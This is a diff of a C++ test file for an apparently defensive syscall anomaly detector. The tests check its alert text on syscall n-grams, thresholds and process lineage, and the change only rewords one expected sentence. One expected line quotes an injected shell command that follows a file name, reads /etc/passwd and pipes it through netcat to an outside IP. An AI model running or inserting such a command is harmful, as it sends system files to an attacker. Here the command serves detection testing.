@@ -67,8 +67,8 @@ SCENARIO("the text says what happened, what led to it and what was expected") {
   REQUIRE_THAT(text, Contains(" > 03:12:07.110  close(fd=13) = 0\n"));
   REQUIRE_THAT(flow, Contains("never seen accept4 recvfrom stat pipe2 pipe2 vfork"));
   REQUIRE_THAT(flow, Contains("instead of vfork: openat 91 %, sendto 6 %, close under 1 %, any other 2 %"));
-  REQUIRE_THAT(flow,
-               Contains("9, 3 times the threshold of 3; it counts unseen 6-grams among the last 20 calls"));
+  REQUIRE_THAT(flow, Contains("9, 3 times the threshold of 3; it counts departures from known sequences "
+                              "among the last 20 calls"));
   REQUIRE_THAT(flow, Contains("complete: no call of this thread was lost"));
   REQUIRE_THAT(flow, Contains("/bin/dash was started by /usr/local/bin/python3.11."));
   REQUIRE_THAT(flow, Contains("sh -c 'convert order.pdf; cat /etc/passwd|nc 203.0.113.9 4444'"));
